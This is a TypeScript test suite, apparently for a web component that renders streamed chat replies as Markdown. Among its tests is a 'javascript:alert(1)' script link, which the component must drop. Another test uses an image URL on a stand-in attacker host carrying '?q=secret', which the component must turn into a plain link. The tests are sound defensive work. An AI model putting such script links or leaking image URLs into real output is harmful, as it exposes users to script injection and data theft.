import { elementUpdated, expect, fixture, html, nextFrame, oneEvent } from '@open-wc/testing';
import '../../../src/elements/svc-markdown/svc-markdown.js';
import { SvcMarkdown } from '../../../src/elements/svc-markdown/svc-markdown.js';
import { SvcElement } from '../../../src/internal/svc-element.js';
import { markdownToHtml, sanitizeHtml, unboxed } from '../../helpers/markdown.js';

const FENCE = '```';

const REPLY = `# Plan

Intro with **bold** and a [link](https://example.com/docs).

## Steps

1. First
2. Second
   - nested

| Name | Qty |
|------|----:|
| a    |   1 |

${FENCE}js
const answer = 42;
${FENCE}

> Quoted

- [x] done
- [ ] open
`;

const base = (el: SvcMarkdown) => el.shadowRoot!.querySelector<HTMLElement>('[part=base]')!;

/**
 * The rendered content without what the element adds to it: the copy buttons, the `tabindex` that lets
 * the keyboard scroll a code block or a table (checked on its own below), and the code's highlighting (the
 * spans of highlighted tokens, test/elements/svc-markdown/highlight.test.ts).
 */
function content(el: SvcMarkdown): string {
  const copy = base(el).cloneNode(true) as HTMLElement;
  for (const button of copy.querySelectorAll('[part=copy]')) button.remove();
  for (const block of copy.querySelectorAll('pre, table')) block.removeAttribute('tabindex');
  for (const code of copy.querySelectorAll('pre > code')) code.replaceChildren(code.textContent ?? '');
  return unboxed(copy);
}

async function render(text: string): Promise<SvcMarkdown> {
  return fixture<SvcMarkdown>(html`<svc-markdown .text=${text}></svc-markdown>`);
}

describe('<svc-markdown>', () => {
  it('renders headings, lists, tables, code, quotes and task lists', async () => {
    const el = await render(REPLY);
    const root = base(el);
    expect([...root.querySelectorAll('h1, h2')].map((h) => h.textContent)).to.deep.equal(['Plan', 'Steps']);
    expect([...root.querySelectorAll('ol > li')].length).to.equal(2);
    expect(root.querySelector('ol li ul li')!.textContent).to.equal('nested');
    expect([...root.querySelectorAll('th')].map((th) => th.textContent)).to.deep.equal(['Name', 'Qty']);
    expect(root.querySelector('td[align=right]')!.textContent).to.equal('1');
    expect(root.querySelector('pre code.language-js')!.textContent).to.equal('const answer = 42;\n');
    expect(root.querySelector('blockquote')!.textContent!.trim()).to.equal('Quoted');
    expect([...root.querySelectorAll('ul:not(ol ul) > li')].map((li) => li.textContent!.trim())).to.deep.equal([
      '☑ done',
      '☐ open',
    ]);
    expect(root.querySelector('input')).to.equal(null);
    expect(content(el)).to.equal(sanitizeHtml(markdownToHtml(REPLY)));
  });

  it('lets tables scroll sideways and images shrink to fit', async () => {
    const el = await render('| a |\n|---|\n| 1 |\n\n![chart](https://img.example/c.png)');
    el.imageHosts = ['img.example'];
    expect(getComputedStyle(base(el).querySelector('table')!).overflowX).to.equal('auto');
    expect(getComputedStyle(base(el).querySelector('img')!).maxWidth).to.equal('100%');
  });

  it('lets the keyboard reach code blocks and tables, which may scroll sideways', async () => {
    const el = await render(`| a |\n|---|\n| 1 |\n\n${FENCE}\n${'x'.repeat(400)}\n${FENCE}\n\nno scrolling here`);
    const focusable = [...base(el).querySelectorAll<HTMLElement>('[tabindex]')];
    expect(focusable.map((block) => [block.localName, block.tabIndex])).to.deep.equal([
      ['table', 0],
      ['pre', 0],
    ]);
    const pre = base(el).querySelector('pre')!;
    expect(pre.scrollWidth, 'the long line scrolls').to.be.greaterThan(pre.clientWidth);
  });

  it('opens links in a new tab without opener and drops script links', async () => {
    const el = await render('[docs](https://example.com) [bad](javascript:alert(1)) <https://auto.example>');
    const links = [...base(el).querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).to.deep.equal([
      'https://example.com',
      null,
      'https://auto.example',
    ]);
    for (const link of links) {
      expect(link.target).to.equal('_blank');
      expect(link.rel).to.equal('noopener noreferrer');
    }
  });

  it('puts a copy button above each code block that copies its code', async () => {
    const el = await render(`Text\n\n${FENCE}\nfirst()\n${FENCE}\n\n${FENCE}sh\nnpm test\n${FENCE}`);
    const buttons = [...el.shadowRoot!.querySelectorAll<HTMLButtonElement>('button[part=copy]')];
    expect(buttons.map((b) => [b.textContent, b.nextElementSibling!.tagName])).to.deep.equal([
      ['Copy', 'PRE'],
      ['Copy', 'PRE'],
    ]);
    const copied = oneEvent(el, 'svc-copy');
    buttons[1].click();
    const event = await copied;
    expect(event.detail).to.deep.equal({ text: 'npm test\n' });
    expect(event.composed).to.equal(true);
    expect(await navigator.clipboard.readText()).to.equal('npm test\n');
    expect(buttons[1].textContent).to.equal('Copied');
    expect(buttons[0].textContent).to.equal('Copy');
  });

  it('uses the copy labels it is given', async () => {
    const el = await fixture<SvcMarkdown>(
      html`<svc-markdown copy-label="Copier" .text=${`${FENCE}\nx\n${FENCE}`}></svc-markdown>`,
    );
    expect(el.shadowRoot!.querySelector('[part=copy]')!.textContent).to.equal('Copier');
  });

  it('streams appended deltas, once per frame, and ends equal to the whole rendering', async () => {
    const el = await render('');
    const pieces = REPLY.match(/[\s\S]{1,7}/g)!;
    for (const [index, piece] of pieces.entries()) {
      el.appendText(piece);
      if (index % 5 === 4) {
        await nextFrame();
        expect(content(el)).to.equal(sanitizeHtml(markdownToHtml(el.text)));
      }
    }
    await elementUpdated(el);
    expect(el.hasAttribute('streaming')).to.equal(true);
    el.finish();
    await elementUpdated(el);
    expect(el.hasAttribute('streaming')).to.equal(false);
    expect(el.text).to.equal(REPLY);
    expect(content(el)).to.equal(sanitizeHtml(markdownToHtml(REPLY)));
    expect(base(el).querySelectorAll('[part=copy]').length).to.equal(1);
  });

  it('renders a stream no more often than its throttle allows, and whole when it finishes', async () => {
    const el = await fixture<SvcMarkdown>(html`<svc-markdown throttle="100000"></svc-markdown>`);
    el.appendText('Hello');
    await nextFrame();
    expect(content(el)).to.equal('<p>Hello</p>\n');
    el.appendText(' **world**');
    for (let frame = 0; frame < 5; frame++) await nextFrame();
    // 100 seconds have not passed since the last render.
    expect(content(el)).to.equal('<p>Hello</p>\n');
    el.finish();
    expect(content(el)).to.equal('<p>Hello <strong>world</strong></p>\n');
  });

  it('lays a streamed reply out exactly as the same text rendered whole (its boxes of settled blocks unseen)', async () => {
    const text = Array.from({ length: 30 }, (_, i) => REPLY.replace('# Plan', `# Plan ${i}`)).join('\n\n---\n\n');
    const host = await fixture<HTMLDivElement>(html`<div style="width: 320px"></div>`);
    const streamed = document.createElement('svc-markdown');
    const whole = document.createElement('svc-markdown');
    host.append(streamed, whole);
    await streamed.updateComplete;
    for (const [index, piece] of text.match(/[\s\S]{1,120}/g)!.entries()) {
      streamed.appendText(piece);
      if (index % 4 === 3) await nextFrame();
    }
    streamed.finish();
    whole.text = text;
    await whole.updateComplete;
    expect(base(streamed).querySelectorAll('.settled').length).to.be.greaterThan(1);
    expect(base(whole).querySelector('.settled')).to.equal(null);
    // Every box laid out, still contained: off screen a box is not, and takes its remembered or estimated height.
    const shown = new CSSStyleSheet();
    shown.replaceSync('.settled { content-visibility: visible; contain: content }');
    streamed.shadowRoot!.adoptedStyleSheets = [...streamed.shadowRoot!.adoptedStyleSheets, shown];
    const tops = (el: SvcMarkdown) =>
      [...base(el).querySelectorAll('h1, h2, p, pre, table, hr, blockquote')].map((block) =>
        Math.round(block.getBoundingClientRect().top - base(el).getBoundingClientRect().top),
      );
    expect(tops(streamed)).to.deep.equal(tops(whole));
  });

  it('applies a link definition that arrives at the end of the stream', async () => {
    const el = await render('');
    for (const piece of ['See [the guide][g].\n\n', 'More.\n\n', 'And more.\n\n', '[g]: https://guide.example\n']) {
      el.appendText(piece);
    }
    el.finish();
    expect(base(el).querySelector('a')!.href).to.equal('https://guide.example/');
  });

  it('replaces its content when text is set again', async () => {
    const el = await render('# One');
    el.text = 'Two';
    expect(content(el)).to.equal('<p>Two</p>\n');
  });

  it('renders text set before the element is defined', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    const early = document.createElement('svc-markdown-late') as SvcMarkdown;
    early.text = '**early**';
    host.append(early);
    class Late extends SvcMarkdown {}
    Late.define('svc-markdown-late');
    await elementUpdated(early);
    expect(base(early).innerHTML).to.equal('<p><strong>early</strong></p>\n');
  });

  it('turns images from hosts outside image-hosts into links', async () => {
    const text = '![ok](https://img.example/a.png) ![leak](https://evil.example/?q=secret)';
    const el = await fixture<SvcMarkdown>(
      html`<svc-markdown image-hosts="img.example, cdn.example" .text=${text}></svc-markdown>`,
    );
    expect(el.imageHosts).to.deep.equal(['img.example', 'cdn.example']);
    expect([...base(el).querySelectorAll('img')].map((img) => img.alt)).to.deep.equal(['ok']);
    expect(base(el).querySelector('a')!.textContent).to.equal('leak');
    el.imageHosts = ['evil.example'];
    await elementUpdated(el);
    expect([...base(el).querySelectorAll('img')].map((img) => img.alt)).to.deep.equal(['leak']);
  });

  it('keeps its rendering when given the same image hosts again (the chat gives a new list at every render)', async () => {
    const text = '![ok](https://img.example/a.png)\n\nA paragraph a visitor may be selecting.';
    const el = await fixture<SvcMarkdown>(html`<svc-markdown image-hosts="img.example" .text=${text}></svc-markdown>`);
    const paragraph = base(el).querySelector('p:last-child');
    el.imageHosts = ['img.example'];
    await elementUpdated(el);
    expect(base(el).querySelector('p:last-child')).to.equal(paragraph);
    // Control: other hosts render it again.
    el.imageHosts = ['cdn.example'];
    await elementUpdated(el);
    expect(base(el).querySelector('p:last-child') === paragraph).to.equal(false);
  });

  it('applies new image hosts to the blocks of a streamed reply', async () => {
    const el = await render('');
    // Images from other hosts than the page's load only once allowed: this one is, to begin with.
    el.imageHosts = ['evil.example'];
    const text = '![chart](https://evil.example/chart.png)\n\nOne.\n\nTwo.\n\nThree.\n';
    for (const piece of text.match(/[\s\S]{1,5}/g)!) {
      el.appendText(piece);
      await nextFrame();
    }
    el.finish();
    expect(base(el).querySelector('img')?.alt).to.equal('chart');
    el.imageHosts = ['img.example'];
    await elementUpdated(el);
    expect(base(el).querySelector('img')).to.equal(null);
    expect(base(el).querySelector('a')!.textContent).to.equal('chart');
  });

  it('tolerates being defined twice', () => {
    expect(() => SvcMarkdown.define('svc-markdown')).not.to.throw();
    expect(customElements.get('svc-markdown')).to.equal(SvcMarkdown);
  });
});

describe('SvcElement', () => {
  class Probe extends SvcElement {}
  Probe.define('svc-probe-element');

  it('emits bubbling, composed events and returns them so a cancelable one can be vetoed', async () => {
    const el = await fixture<Probe>(html`<div><svc-probe-element></svc-probe-element></div>`);
    const probe = el.querySelector('svc-probe-element') as Probe;
    el.addEventListener('svc-copy', (event) => event.preventDefault());
    const vetoed = probe.emit('svc-copy', { text: 'a' }, { cancelable: true });
    expect(vetoed.bubbles && vetoed.composed).to.equal(true);
    expect(vetoed.defaultPrevented).to.equal(true);
    const plain = probe.emit('svc-copy', { text: 'b' });
    expect(plain.cancelable).to.equal(false);
    expect(plain.defaultPrevented).to.equal(false);
  });
});
